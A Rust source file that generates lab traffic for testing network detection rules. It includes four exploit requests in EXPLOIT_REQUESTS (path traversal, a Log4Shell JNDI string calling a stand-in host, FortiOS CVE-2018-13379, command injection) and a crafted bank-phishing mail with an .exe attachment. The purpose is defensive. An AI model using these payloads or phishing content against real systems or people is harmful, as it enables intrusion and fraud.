//! Scenarios: real clients talking to real servers on the test site, one per situation a
//! detection rule is about (and its negative twin).
//!
//! Each scenario starts the servers it needs, runs the clients, checks that the clients got
//! their answers (so a pcap never silently lacks the traffic it is named after), and stops
//! its servers again, so scenarios can run one after another on the same site (the demo does).
//!
//! Where Debian has no real client or server (Oracle TNS, WinRM, a FortiGate, a CONNECT
//! proxy), `fixtures/scenario/kt_tools.py` provides a small one that speaks the protocol on
//! the wire; everything else is the real tool (curl, dig/dnsmasq, openssl, swaks/aiosmtpd,
//! telnet/telnetd, ssh/sshd, pyftpdlib).

use crate::proc::Server;
use crate::site::{
    ATTACKER, BAD, DB, DNS, EXT, EXT_ALLOWED, FILES, GATEWAY, Host, MAIL, PC, PC2, PROXY, Site, VPN,
};
use anyhow::{Context, ensure};
use std::path::{Path, PathBuf};

/// The helper servers and clients, written into each site's work directory.
const KT_TOOLS: &str = include_str!("../fixtures/scenario/kt_tools.py");
/// Debian's python (with python3-aiosmtpd and python3-pyftpdlib); `python3` on PATH may be
/// another interpreter without Debian's modules.
pub const PYTHON: &str = "/usr/bin/python3";

/// Bytes of the large VPN upload (over the default 100 MB threshold, in MB and in MiB).
pub const VPN_LARGE_UPLOAD_BYTES: u64 = 150_000_000;
/// Bytes of the VPN upload that stays under the threshold.
pub const VPN_SMALL_UPLOAD_BYTES: u64 = 50_000_000;

/// The certificate subject of the FortiGate SSL-VPN gateway.
pub const FORTIGATE_SUBJECT: &str = "/C=US/ST=California/L=Sunnyvale/O=Fortinet/OU=FortiGate/CN=FGT60FTK20012345/emailAddress=support@fortinet.com";

#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Scenario {
    /// Web (HTTP, TLS), DNS and mail as an ordinary office makes them.
    Office,
    /// A login attempt over Telnet to the file server.
    Telnet,
    /// FTP download and upload between inside hosts on port 21.
    FtpInternal,
    /// The same on port 2121 (negative twin of `ftp_default_port_internal`).
    FtpInternalOtherPort,
    /// FTP from an inside PC to an outside server on port 21.
    FtpExternal,
    /// SSH from an inside PC to an outside server (Debian's OpenSSH 9.2p1).
    SshExternal,
    /// SSH from an inside PC to the allow-listed outside server.
    SshAllowed,
    /// SSH from an inside PC to the inside file server (Debian's OpenSSH 9.2p1).
    SshInternal,
    /// An SSH client against an inside server announcing OpenSSH 9.9p1.
    SshModernServer,
    /// WinRM Identify (POST /wsman on 5985).
    WinRm,
    /// An Oracle TNS CONNECT to the database listener.
    Oracle,
    /// The FortiGate SSL-VPN login page fetched by an outside client.
    FortinetOutside,
    /// The same page fetched by an inside PC (negative twin).
    FortinetInside,
    /// Exploit attempts from outside against the public web server.
    ExploitAttempts,
    /// Ordinary browsing from outside against the public web server (negative twin).
    OutsideBrowsing,
    /// A phishing mail from outside to the mail server.
    PhishingMail,
    /// An ordinary mail between colleagues (negative twin).
    OrdinaryMail,
    /// Netflix: DNS, HTTPS (SNI) and HTTP (Host) from an inside PC.
    Streaming,
    /// A VPN client uploads 150 MB over HTTP.
    VpnLargeUpload,
    /// A VPN client uploads 50 MB over HTTP (negative twin).
    VpnSmallUpload,
    /// An inside PC talks HTTP to an address on the reputation list.
    BadReputation,
    /// HTTP CONNECT through the proxy to mtalk.google.com:5228.
    ConnectNonStandard,
    /// HTTP CONNECT through the proxy to port 443 (negative twin).
    Connect443,
}

impl Scenario {
    pub const ALL: [Scenario; 23] = [
        Scenario::Office,
        Scenario::Telnet,
        Scenario::FtpInternal,
        Scenario::FtpInternalOtherPort,
        Scenario::FtpExternal,
        Scenario::SshExternal,
        Scenario::SshAllowed,
        Scenario::SshInternal,
        Scenario::SshModernServer,
        Scenario::WinRm,
        Scenario::Oracle,
        Scenario::FortinetOutside,
        Scenario::FortinetInside,
        Scenario::ExploitAttempts,
        Scenario::OutsideBrowsing,
        Scenario::PhishingMail,
        Scenario::OrdinaryMail,
        Scenario::Streaming,
        Scenario::VpnLargeUpload,
        Scenario::VpnSmallUpload,
        Scenario::BadReputation,
        Scenario::ConnectNonStandard,
        Scenario::Connect443,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Scenario::Office => "office",
            Scenario::Telnet => "telnet",
            Scenario::FtpInternal => "ftp-internal",
            Scenario::FtpInternalOtherPort => "ftp-internal-2121",
            Scenario::FtpExternal => "ftp-external",
            Scenario::SshExternal => "ssh-external",
            Scenario::SshAllowed => "ssh-allowed",
            Scenario::SshInternal => "ssh-internal",
            Scenario::SshModernServer => "ssh-modern-server",
            Scenario::WinRm => "winrm",
            Scenario::Oracle => "oracle",
            Scenario::FortinetOutside => "fortinet-outside",
            Scenario::FortinetInside => "fortinet-inside",
            Scenario::ExploitAttempts => "exploit-attempts",
            Scenario::OutsideBrowsing => "outside-browsing",
            Scenario::PhishingMail => "phishing-mail",
            Scenario::OrdinaryMail => "ordinary-mail",
            Scenario::Streaming => "streaming",
            Scenario::VpnLargeUpload => "vpn-upload-150mb",
            Scenario::VpnSmallUpload => "vpn-upload-50mb",
            Scenario::BadReputation => "bad-reputation",
            Scenario::ConnectNonStandard => "connect-5228",
            Scenario::Connect443 => "connect-443",
        }
    }

    pub fn from_name(name: &str) -> Option<Scenario> {
        Scenario::ALL.into_iter().find(|s| s.name() == name)
    }

    /// Runs the scenario on `site` (its servers are stopped when it returns).
    pub fn run(self, site: &Site) -> anyhow::Result<()> {
        let t = Tools::new(site)?;
        match self {
            Scenario::Office => office(&t),
            Scenario::Telnet => telnet(&t),
            Scenario::FtpInternal => ftp(&t, PC, FILES, 21),
            Scenario::FtpInternalOtherPort => ftp(&t, PC, FILES, 2121),
            Scenario::FtpExternal => ftp(&t, PC, EXT, 21),
            Scenario::SshExternal => ssh(&t, PC, EXT),
            Scenario::SshAllowed => ssh(&t, PC, EXT_ALLOWED),
            Scenario::SshInternal => ssh(&t, PC, FILES),
            Scenario::SshModernServer => ssh_modern(&t),
            Scenario::WinRm => winrm(&t),
            Scenario::Oracle => oracle(&t),
            Scenario::FortinetOutside => fortinet(&t, ATTACKER),
            Scenario::FortinetInside => fortinet(&t, PC),
            Scenario::ExploitAttempts => exploits(&t),
            Scenario::OutsideBrowsing => outside_browsing(&t),
            Scenario::PhishingMail => phishing(&t),
            Scenario::OrdinaryMail => ordinary_mail(&t),
            Scenario::Streaming => streaming(&t),
            Scenario::VpnLargeUpload => vpn_upload(&t, VPN_LARGE_UPLOAD_BYTES),
            Scenario::VpnSmallUpload => vpn_upload(&t, VPN_SMALL_UPLOAD_BYTES),
            Scenario::BadReputation => bad_reputation(&t),
            Scenario::ConnectNonStandard => connect(&t, "mtalk.google.com", 5228),
            Scenario::Connect443 => connect(&t, "www.example.com", 443),
        }
    }
}

/// Per-run helpers: the site, the work directory and the helper script.
struct Tools<'a> {
    site: &'a Site,
    dir: PathBuf,
    py: String,
}

impl<'a> Tools<'a> {
    fn new(site: &'a Site) -> anyhow::Result<Tools<'a>> {
        let dir = site.work_dir().to_path_buf();
        let py = dir.join("kt_tools.py");
        if !py.exists() {
            std::fs::write(&py, KT_TOOLS).context("cannot write kt_tools.py")?;
        }
        Ok(Tools {
            site,
            py: path_str(&py)?,
            dir,
        })
    }

    fn path(&self, name: &str) -> String {
        self.dir.join(name).to_string_lossy().into_owned()
    }

    fn write(&self, name: &str, content: &[u8]) -> anyhow::Result<String> {
        let p = self.dir.join(name);
        std::fs::write(&p, content).with_context(|| format!("cannot write {}", p.display()))?;
        path_str(&p)
    }

    /// A helper mode of kt_tools.py as a server listening on `port`.
    fn py_server(
        &self,
        host: Host,
        mode: &str,
        port: u16,
        extra: &[&str],
    ) -> anyhow::Result<Server> {
        let port_s = port.to_string();
        let mut argv = vec![PYTHON, "-u", &self.py, mode, host.ip, &port_s];
        argv.extend_from_slice(extra);
        self.site.serve(
            host,
            &format!("{mode}-{}-{port}", host.name),
            "tcp",
            port,
            &argv,
        )
    }

    /// Runs a client and returns its stdout; fails with its stderr when it fails.
    fn client(&self, host: Host, argv: &[&str]) -> anyhow::Result<String> {
        let out = self.site.sh(host, argv, 60)?;
        Ok(String::from_utf8_lossy(&out.stdout).into_owned())
    }

    /// A self-signed certificate (EC P-256) with `subject`, returns (cert, key) paths.
    fn cert(&self, name: &str, subject: &str, dns: &str) -> anyhow::Result<(String, String)> {
        let (cert, key) = (
            self.path(&format!("{name}.crt")),
            self.path(&format!("{name}.key")),
        );
        let san = format!("subjectAltName=DNS:{dns}");
        crate::proc::sh_in(
            "",
            &[
                "openssl",
                "req",
                "-x509",
                "-newkey",
                "ec",
                "-pkeyopt",
                "ec_paramgen_curve:prime256v1",
                "-nodes",
                "-days",
                "30",
                "-subj",
                subject,
                "-addext",
                &san,
                "-keyout",
                &key,
                "-out",
                &cert,
            ],
            30,
        )?;
        Ok((cert, key))
    }

    /// `openssl s_server -www` (answers any HTTP request with a status page) on `host:port`.
    fn tls_server(&self, host: Host, port: u16, cn: &str) -> anyhow::Result<Server> {
        let (cert, key) = self.cert(&format!("tls-{cn}"), &format!("/CN={cn}"), cn)?;
        let accept = format!("{}:{port}", host.ip);
        self.site.serve(
            host,
            &format!("s_server-{}-{port}", host.name),
            "tcp",
            port,
            &[
                "openssl", "s_server", "-accept", &accept, "-cert", &cert, "-key", &key, "-www",
                "-quiet",
            ],
        )
    }

    fn dns_server(&self) -> anyhow::Result<Server> {
        self.site.serve(
            DNS,
            "dnsmasq",
            "udp",
            53,
            &[
                "dnsmasq",
                "--keep-in-foreground",
                "--conf-file=/dev/null",
                "--no-resolv",
                "--no-hosts",
                "--bind-interfaces",
                "--listen-address=10.10.2.53",
                "--pid-file=",
                "--user=root",
                "--log-queries",
                "--log-facility=-",
                "--address=/example.com/203.0.113.10",
                "--address=/netflix.com/203.0.113.10",
                "--address=/nflxvideo.net/203.0.113.10",
                "--address=/corp.example/10.10.2.20",
                "--mx-host=corp.example,mail.corp.example,10",
                "--host-record=mail.corp.example,10.10.2.25",
            ],
        )
    }

    fn smtp_server(&self) -> anyhow::Result<Server> {
        self.site.serve(
            MAIL,
            "aiosmtpd",
            "tcp",
            25,
            &[PYTHON, "-m", "aiosmtpd", "-n", "-l", "10.10.2.25:25"],
        )
    }

    /// swaks delivering the raw message `data` to the mail server.
    fn send_mail(
        &self,
        from_host: Host,
        helo: &str,
        from: &str,
        to: &str,
        data: &str,
    ) -> anyhow::Result<()> {
        let file = self.write(&format!("mail-{}.eml", from_host.name), data.as_bytes())?;
        let data_arg = format!("@{file}");
        let out = self.client(
            from_host,
            &[
                "swaks",
                "--server",
                MAIL.ip,
                "--port",
                "25",
                "--helo",
                helo,
                "--from",
                from,
                "--to",
                to,
                "--data",
                &data_arg,
                "--timeout",
                "20",
            ],
        )?;
        ensure!(
            out.contains("250"),
            "the mail server did not accept the mail: {out}"
        );
        Ok(())
    }
}

fn path_str(p: &Path) -> anyhow::Result<String> {
    p.to_str()
        .map(str::to_string)
        .with_context(|| format!("{} is not UTF-8", p.display()))
}

fn curl_ok(out: &str, what: &str) -> anyhow::Result<()> {
    ensure!(!out.trim().is_empty(), "{what}: curl got an empty answer");
    Ok(())
}

fn office(t: &Tools) -> anyhow::Result<()> {
    let _dns = t.dns_server()?;
    let _web = t.py_server(EXT, "http-sink", 80, &[])?;
    let _intranet = t.py_server(FILES, "http-sink", 80, &[])?;
    let _tls = t.tls_server(EXT, 443, "www.example.com")?;
    let _smtp = t.smtp_server()?;
    for name in ["www.example.com", "intranet.corp.example"] {
        let a = t.client(
            PC,
            &[
                "dig",
                "+short",
                "+tries=1",
                "+time=3",
                "@10.10.2.53",
                name,
                "A",
            ],
        )?;
        ensure!(!a.trim().is_empty(), "dnsmasq gave no answer for {name}");
    }
    t.client(
        PC2,
        &[
            "dig",
            "+tries=1",
            "+time=3",
            "@10.10.2.53",
            "corp.example",
            "MX",
        ],
    )?;
    let page = t.client(
        PC,
        &[
            "curl",
            "-sS",
            "--max-time",
            "10",
            "--resolve",
            "www.example.com:80:203.0.113.10",
            "http://www.example.com/news/today.html",
        ],
    )?;
    curl_ok(&page, "http www.example.com")?;
    let intranet = t.client(
        PC2,
        &[
            "curl",
            "-sS",
            "--max-time",
            "10",
            "--resolve",
            "intranet.corp.example:80:10.10.2.20",
            "http://intranet.corp.example/wiki/Main_Page",
        ],
    )?;
    curl_ok(&intranet, "http intranet")?;
    let tls = t.client(
        PC,
        &[
            "curl",
            "-sSk",
            "--max-time",
            "10",
            "--resolve",
            "www.example.com:443:203.0.113.10",
            "https://www.example.com/",
        ],
    )?;
    curl_ok(&tls, "https www.example.com")?;
    ordinary_mail_with(t)
}

fn ordinary_mail(t: &Tools) -> anyhow::Result<()> {
    let _smtp = t.smtp_server()?;
    ordinary_mail_with(t)
}

fn ordinary_mail_with(t: &Tools) -> anyhow::Result<()> {
    let data = "From: Alice Tanaka <alice@corp.example>\r\n\
                To: Bob Suzuki <bob@corp.example>\r\n\
                Subject: Minutes of the Monday meeting\r\n\
                Date: %DATE%\r\n\
                Message-ID: <minutes-1@corp.example>\r\n\
                MIME-Version: 1.0\r\n\
                Content-Type: multipart/mixed; boundary=\"b1\"\r\n\
                \r\n\
                --b1\r\n\
                Content-Type: text/plain; charset=utf-8\r\n\
                \r\n\
                Hi Bob,\r\n\r\nthe minutes are attached. The intranet page is at\r\n\
                http://intranet.corp.example/wiki/Minutes\r\n\r\nAlice\r\n\
                --b1\r\n\
                Content-Type: text/plain; name=\"minutes.txt\"\r\n\
                Content-Disposition: attachment; filename=\"minutes.txt\"\r\n\
                \r\n\
                1. Budget approved.\r\n2. Next meeting on Friday.\r\n\
                --b1--\r\n";
    t.send_mail(
        PC,
        "pc.corp.example",
        "alice@corp.example",
        "bob@corp.example",
        data,
    )
}

fn telnet(t: &Tools) -> anyhow::Result<()> {
    let _telnetd = t.site.serve(
        FILES,
        "telnetd",
        "tcp",
        23,
        &[
            "busybox",
            "telnetd",
            "-F",
            "-p",
            "23",
            "-b",
            FILES.ip,
            "-l",
            "/bin/login",
        ],
    )?;
    // The real telnet client, typed at by a script: user name, a wrong password, then wait
    // for the "Login incorrect" before closing.
    let script = format!(
        "(sleep 1.5; printf 'alice\\r\\n'; sleep 1.5; printf 'Winter2026\\r\\n'; sleep 4) | telnet {} 23",
        FILES.ip
    );
    let out = t.site.run(PC, &["sh", "-c", &script], 30)?;
    let text = String::from_utf8_lossy(&out.stdout);
    ensure!(
        text.contains("login:") || text.contains("Login"),
        "telnet got no login prompt from telnetd: {text}"
    );
    Ok(())
}

fn ftp(t: &Tools, client: Host, server: Host, port: u16) -> anyhow::Result<()> {
    let root = t.dir.join(format!("ftp-{}-{port}", server.name));
    std::fs::create_dir_all(&root)?;
    std::fs::write(
        root.join("report-2026Q3.txt"),
        "quarterly figures\n".repeat(200),
    )?;
    let upload = t.write(
        "upload-plan.txt",
        "project plan v2\n".repeat(100).as_bytes(),
    )?;
    let root_s = path_str(&root)?;
    let _ftpd = t.py_server(server, "ftp", port, &[&root_s])?;
    let base = format!("ftp://{}:{port}", server.ip);
    let got = t.client(
        client,
        &[
            "curl",
            "-sS",
            "--max-time",
            "15",
            "--user",
            "alice:secret",
            &format!("{base}/report-2026Q3.txt"),
        ],
    )?;
    ensure!(
        got.starts_with("quarterly figures"),
        "FTP download returned {got:?}"
    );
    t.client(
        client,
        &[
            "curl",
            "-sS",
            "--max-time",
            "15",
            "--user",
            "alice:secret",
            "-T",
            &upload,
            &format!("{base}/plan.txt"),
        ],
    )?;
    ensure!(root.join("plan.txt").exists(), "FTP upload did not arrive");
    Ok(())
}

fn ssh_keys(t: &Tools) -> anyhow::Result<(String, String)> {
    let (host_key, client_key) = (t.path("ssh_host_ed25519_key"), t.path("id_ed25519"));
    for k in [&host_key, &client_key] {
        if !Path::new(k).exists() {
            crate::proc::sh_in(
                "",
                &["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", k],
                20,
            )?;
        }
    }
    Ok((host_key, client_key))
}

fn ssh(t: &Tools, client: Host, server: Host) -> anyhow::Result<()> {
    let (host_key, client_key) = ssh_keys(t)?;
    let authorized = t.path("authorized_keys");
    std::fs::copy(format!("{client_key}.pub"), &authorized)?;
    let cfg = t.write(
        &format!("sshd_config-{}", server.name),
        format!(
            "Port 22\nListenAddress {ip}\nHostKey {host_key}\nPidFile none\nUsePAM no\n\
             StrictModes no\nPermitRootLogin prohibit-password\nAuthorizedKeysFile {authorized}\n\
             PasswordAuthentication no\nKbdInteractiveAuthentication no\nLogLevel VERBOSE\n",
            ip = server.ip
        )
        .as_bytes(),
    )?;
    // sshd insists on its privilege separation directory.
    std::fs::create_dir_all("/run/sshd").context("cannot create /run/sshd for sshd")?;
    let _sshd = t.site.serve(
        server,
        &format!("sshd-{}", server.name),
        "tcp",
        22,
        &["/usr/sbin/sshd", "-D", "-e", "-f", &cfg],
    )?;
    let target = format!("root@{}", server.ip);
    let out = t.client(
        client,
        &[
            "ssh",
            "-F",
            "/dev/null",
            "-i",
            &client_key,
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
            "-o",
            "BatchMode=yes",
            "-o",
            "ConnectTimeout=10",
            &target,
            "echo",
            "kt-ssh-ok",
        ],
    )?;
    ensure!(out.contains("kt-ssh-ok"), "ssh command did not run: {out}");
    Ok(())
}

fn ssh_modern(t: &Tools) -> anyhow::Result<()> {
    let _fake = t.py_server(FILES, "fake-ssh", 22, &["SSH-2.0-OpenSSH_9.9p1 Debian-1"])?;
    let target = format!("root@{}", FILES.ip);
    // The server only announces itself; the client gives up after the banner exchange.
    let out = t.site.run(
        PC,
        &[
            "ssh",
            "-F",
            "/dev/null",
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
            "-o",
            "BatchMode=yes",
            "-o",
            "ConnectTimeout=10",
            &target,
            "true",
        ],
        30,
    )?;
    let err = String::from_utf8_lossy(&out.stderr);
    ensure!(
        !err.contains("Connection refused"),
        "fake ssh server not reachable: {err}"
    );
    Ok(())
}

const WSMAN_IDENTIFY: &str = "<s:Envelope xmlns:s=\"http://www.w3.org/2003/05/soap-envelope\" \
xmlns:wsmid=\"http://schemas.dmtf.org/wbem/wsman/identity/1/wsmanidentity.xsd\">\
<s:Header/><s:Body><wsmid:Identify/></s:Body></s:Envelope>";

fn winrm(t: &Tools) -> anyhow::Result<()> {
    let _srv = t.py_server(FILES, "winrm", 5985, &[])?;
    let body = t.write("identify.xml", WSMAN_IDENTIFY.as_bytes())?;
    let out = t.client(
        PC,
        &[
            "curl",
            "-sS",
            "--max-time",
            "10",
            "-X",
            "POST",
            "-A",
            "Microsoft WinRM Client",
            "-H",
            "Content-Type: application/soap+xml;charset=UTF-8",
            "--data-binary",
            &format!("@{body}"),
            &format!("http://{}:5985/wsman", FILES.ip),
        ],
    )?;
    ensure!(
        out.contains("IdentifyResponse"),
        "WinRM endpoint answered {out:?}"
    );
    Ok(())
}

fn oracle(t: &Tools) -> anyhow::Result<()> {
    let _lsnr = t.py_server(DB, "tns-listener", 1521, &[])?;
    let out = t.client(
        PC,
        &[PYTHON, &t.py, "tns-client", DB.ip, "1521", "ORCLPDB1"],
    )?;
    ensure!(
        out.contains("answer type 4"),
        "TNS listener answered {out:?}"
    );
    Ok(())
}

fn fortinet(t: &Tools, client: Host) -> anyhow::Result<()> {
    let (cert, key) = t.cert("fortigate", FORTIGATE_SUBJECT, "vpn.corp.example")?;
    let _https = t.py_server(GATEWAY, "fortigate", 443, &[&cert, &key])?;
    let _http = t.py_server(GATEWAY, "fortigate-http", 80, &[])?;
    let page = t.client(
        client,
        &[
            "curl",
            "-sSk",
            "--max-time",
            "10",
            "-A",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
            &format!("https://{}/remote/login?lang=en", GATEWAY.ip),
        ],
    )?;
    ensure!(
        page.contains("/remote/logincheck"),
        "FortiGate HTTPS page missing: {page:?}"
    );
    let page = t.client(
        client,
        &[
            "curl",
            "-sS",
            "--max-time",
            "10",
            "-A",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
            &format!("http://{}/remote/login?lang=en", GATEWAY.ip),
        ],
    )?;
    ensure!(
        page.contains("/remote/logincheck"),
        "FortiGate HTTP page missing: {page:?}"
    );
    Ok(())
}

/// The exploit requests, as (curl options, what they are).
pub const EXPLOIT_REQUESTS: [(&[&str], &str); 4] = [
    (
        &["--path-as-is", "http://10.10.2.80/../../../../etc/passwd"],
        "path traversal",
    ),
    (
        &[
            "-A",
            "${jndi:ldap://198.51.100.66:1389/Exploit}",
            "http://10.10.2.80/",
        ],
        "Log4Shell",
    ),
    (
        &[
            "--path-as-is",
            "http://10.10.2.80/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
        ],
        "FortiOS CVE-2018-13379",
    ),
    (
        &["http://10.10.2.80/cgi-bin/status?cmd=;cat%20/etc/passwd"],
        "command injection",
    ),
];

fn exploits(t: &Tools) -> anyhow::Result<()> {
    let _web = t.py_server(GATEWAY, "http-sink", 80, &[])?;
    for (opts, what) in EXPLOIT_REQUESTS {
        let mut argv = vec!["curl", "-sS", "--max-time", "10"];
        argv.extend_from_slice(opts);
        let out = t
            .client(ATTACKER, &argv)
            .with_context(|| format!("{what} request"))?;
        curl_ok(&out, what)?;
    }
    Ok(())
}

fn outside_browsing(t: &Tools) -> anyhow::Result<()> {
    let _web = t.py_server(GATEWAY, "http-sink", 80, &[])?;
    for url in [
        "/",
        "/products/index.html",
        "/search?q=network+recorder&page=2",
        "/contact",
    ] {
        let out = t.client(
            ATTACKER,
            &[
                "curl",
                "-sS",
                "--max-time",
                "10",
                "-A",
                "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0",
                &format!("http://{}{url}", GATEWAY.ip),
            ],
        )?;
        curl_ok(&out, url)?;
    }
    Ok(())
}

/// The phishing mail's signals, for assertions: lookalike sender domain, the brand it
/// impersonates, the link's real target, the risky attachment.
pub const PHISHING_SENDER: &str = "info@resonabank-co.jp";
pub const PHISHING_REPLY_TO: &str = "resona-support@mail-desk.example";
pub const PHISHING_LINK_HREF: &str = "http://198.51.100.66/resona/login.php";
pub const PHISHING_LINK_TEXT: &str = "https://www.resonabank.co.jp/login";
pub const PHISHING_ATTACHMENT: &str = "invoice.pdf.exe";

fn phishing(t: &Tools) -> anyhow::Result<()> {
    let _smtp = t.smtp_server()?;
    // A tiny PE stub as the "invoice": MZ header and the DOS stub text.
    let mut exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00".to_vec();
    exe.extend_from_slice(b"This program cannot be run in DOS mode.\r\r\n$");
    exe.resize(512, 0);
    let attachment = base64_lines(&exe);
    // "りそな銀行" as an RFC 2047 encoded word.
    let display = format!("=?UTF-8?B?{}?=", base64("りそな銀行".as_bytes()));
    let subject = format!(
        "=?UTF-8?B?{}?=",
        base64("【重要】お客様の口座が一時停止されました".as_bytes())
    );
    let html = format!(
        "<html><body><p>りそな銀行をご利用いただきありがとうございます。</p>\
         <p>本人確認のため、下記よりログインしてください。</p>\
         <p><a href=\"{PHISHING_LINK_HREF}\">{PHISHING_LINK_TEXT}</a></p>\
         <p>請求書を添付しております。</p></body></html>"
    );
    let data = format!(
        "From: {display} <{PHISHING_SENDER}>\r\n\
         Reply-To: {PHISHING_REPLY_TO}\r\n\
         To: keiri@corp.example\r\n\
         Subject: {subject}\r\n\
         Date: %DATE%\r\n\
         Message-ID: <20261118.0001@resonabank-co.jp>\r\n\
         MIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=\"outer\"\r\n\
         \r\n\
         --outer\r\n\
         Content-Type: text/html; charset=utf-8\r\n\
         Content-Transfer-Encoding: base64\r\n\
         \r\n\
         {html_b64}\r\n\
         --outer\r\n\
         Content-Type: application/octet-stream; name=\"{PHISHING_ATTACHMENT}\"\r\n\
         Content-Disposition: attachment; filename=\"{PHISHING_ATTACHMENT}\"\r\n\
         Content-Transfer-Encoding: base64\r\n\
         \r\n\
         {attachment}\r\n\
         --outer--\r\n",
        html_b64 = base64_lines(html.as_bytes()),
    );
    t.send_mail(
        ATTACKER,
        "mail.resonabank-co.jp",
        PHISHING_SENDER,
        "keiri@corp.example",
        &data,
    )
}

fn streaming(t: &Tools) -> anyhow::Result<()> {
    let _dns = t.dns_server()?;
    let _tls = t.tls_server(EXT, 443, "www.netflix.com")?;
    let _web = t.py_server(EXT, "http-sink", 80, &[])?;
    let a = t.client(
        PC,
        &[
            "dig",
            "+short",
            "+tries=1",
            "+time=3",
            "@10.10.2.53",
            "www.netflix.com",
            "A",
        ],
    )?;
    ensure!(
        a.trim() == EXT.ip,
        "dnsmasq answered {a:?} for www.netflix.com"
    );
    let page = t.client(
        PC,
        &[
            "curl",
            "-sSk",
            "--max-time",
            "10",
            "--resolve",
            "www.netflix.com:443:203.0.113.10",
            "https://www.netflix.com/browse",
        ],
    )?;
    curl_ok(&page, "https www.netflix.com")?;
    let page = t.client(
        PC,
        &[
            "curl",
            "-sS",
            "--max-time",
            "10",
            "--resolve",
            "www.netflix.com:80:203.0.113.10",
            "http://www.netflix.com/",
        ],
    )?;
    curl_ok(&page, "http www.netflix.com")
}

/// The uploads are paced so that the mirror and tcpdump keep every frame on this small
/// shared machine (an unpaced veth transfer outruns tcpdump's disk writes and loses frames).
const UPLOAD_RATE: &str = "25M";

fn vpn_upload(t: &Tools, bytes: u64) -> anyhow::Result<()> {
    let _srv = t.py_server(FILES, "http-sink", 80, &[])?;
    let file = t.path(&format!("backup-{bytes}.bin"));
    let f = std::fs::File::create(&file)?;
    f.set_len(bytes)?;
    drop(f);
    let out = t.site.sh(
        VPN,
        &[
            "curl",
            "-sS",
            "--max-time",
            "120",
            "--limit-rate",
            UPLOAD_RATE,
            "-T",
            &file,
            &format!("http://{}/upload/backup.bin", FILES.ip),
        ],
        150,
    )?;
    let text = String::from_utf8_lossy(&out.stdout);
    ensure!(
        text.contains(&format!("stored {bytes} bytes")),
        "upload answer: {text:?}"
    );
    let _ = std::fs::remove_file(&file);
    Ok(())
}

fn bad_reputation(t: &Tools) -> anyhow::Result<()> {
    let _bad = t.py_server(BAD, "http-sink", 80, &[])?;
    let out = t.client(
        PC,
        &[
            "curl",
            "-sS",
            "--max-time",
            "10",
            &format!("http://{}/gate.php?id=42", BAD.ip),
        ],
    )?;
    curl_ok(&out, "bad host")
}

fn connect(t: &Tools, name: &str, port: u16) -> anyhow::Result<()> {
    let _tls = t.tls_server(EXT, port, name)?;
    let map = format!("{name}={}", EXT.ip);
    let _proxy = t.py_server(PROXY, "connect-proxy", 3128, &[&map])?;
    let out = t.client(
        PC,
        &[
            "curl",
            "-sSk",
            "--max-time",
            "10",
            "-p",
            "-x",
            &format!("http://{}:3128", PROXY.ip),
            &format!("https://{name}:{port}/"),
        ],
    )?;
    curl_ok(&out, "CONNECT")
}

/// Standard base64 with padding, in 76-character lines (for MIME bodies).
pub fn base64_lines(data: &[u8]) -> String {
    let flat = base64(data);
    let lines: Vec<&str> = flat
        .as_bytes()
        .chunks(76)
        .map(|c| std::str::from_utf8(c).unwrap_or(""))
        .collect();
    lines.join("\r\n")
}

/// Standard base64 with padding, one line (for RFC 2047 encoded words).
pub fn base64(data: &[u8]) -> String {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in data.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for k in 0..4 {
            if k <= chunk.len() {
                out.push(T[((n >> (18 - 6 * k)) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    #[test]
    fn base64_matches_rfc4648_vectors() {
        for (input, expected) in [
            ("", ""),
            ("f", "Zg=="),
            ("fo", "Zm8="),
            ("foo", "Zm9v"),
            ("foobar", "Zm9vYmFy"),
        ] {
            assert_eq!(super::base64(input.as_bytes()), expected);
        }
    }
}
